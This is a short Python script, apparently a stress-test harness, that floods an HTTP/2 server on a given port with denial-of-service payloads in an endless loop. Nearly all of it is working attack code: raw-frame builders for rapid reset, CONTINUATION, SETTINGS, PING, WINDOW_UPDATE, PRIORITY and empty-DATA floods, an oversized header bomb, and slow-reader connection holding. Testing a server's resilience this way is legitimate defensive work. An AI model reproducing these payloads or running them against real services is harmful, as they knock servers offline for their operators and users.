"""Attacks the HTTP/2 port it is told, over and over until it is ended: http2_attack.py PORT KIND CORE. `idle` only spins."""
import contextlib
import os
import sys
import time

from http2_frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM,
                          SETTINGS, WINDOW_UPDATE, block, frame)
import harness

MANY = 2000
CRUMBS = block(*GET) + b'\x40\x06cookie\x7f\x81\x1d' + b'c' * 4000 + b'\xbe' * 12_000   # one long field, meant 12,000 times
ODD = range(1, 2 * MANY, 2)


def number(n):
    return n.to_bytes(4, 'big')


def flood(*frames):
    return PREFACE + b''.join(frames) * MANY


KINDS = {
    'rapid reset': PREFACE + b''.join(frame(HEADERS, END_HEADERS | END_STREAM, n, block(*GET)) +
                                      frame(RST_STREAM, 0, n, number(8)) for n in ODD),
    'made to reset': PREFACE + b''.join(frame(HEADERS, END_HEADERS, n, block(*GET)) +
                                        frame(WINDOW_UPDATE, 0, n, number(0x7fffffff)) for n in ODD),
    'continuation': PREFACE + frame(HEADERS, 0, 1, block(*GET)) + frame(CONTINUATION, 0, 1, b'') * MANY,
    'settings': flood(frame(SETTINGS, 0, 0)),
    'ping': flood(frame(PING, 0, 0, b'12345678')),
    'priority': PREFACE + b''.join(frame(PRIORITY, 0, n, number(0) + b'\x10') for n in ODD),
    'empty data': PREFACE + frame(HEADERS, END_HEADERS, 1, block(*GET)) + frame(DATA, 0, 1) * MANY,
    'windows': flood(frame(WINDOW_UPDATE, 0, 0, number(1))),
    'crumbs': PREFACE + frame(HEADERS, END_HEADERS | END_STREAM, 1, CRUMBS),
    'slow readers': PREFACE + b''.join(frame(HEADERS, END_HEADERS | END_STREAM, n, block(*GET[:2], ('__path', '/large'), GET[3]))
                                       for n in range(1, 200, 2)),
}


def attack(port, kind):
    held = []
    while True:
        if kind == 'idle':
            continue
        with contextlib.suppress(OSError):
            client = harness.Client(port, timeout=1)
            client.send(KINDS[kind])
            if kind == 'slow readers':
                held = [*held[-200:], client]          # and reads nothing
                time.sleep(0.02)                       # 5,000 requests a second
                continue
            with client:
                while client.socket.recv(65536):
                    pass


if __name__ == '__main__':
    os.sched_setaffinity(0, {int(sys.argv[3])})
    attack(int(sys.argv[1]), sys.argv[2])
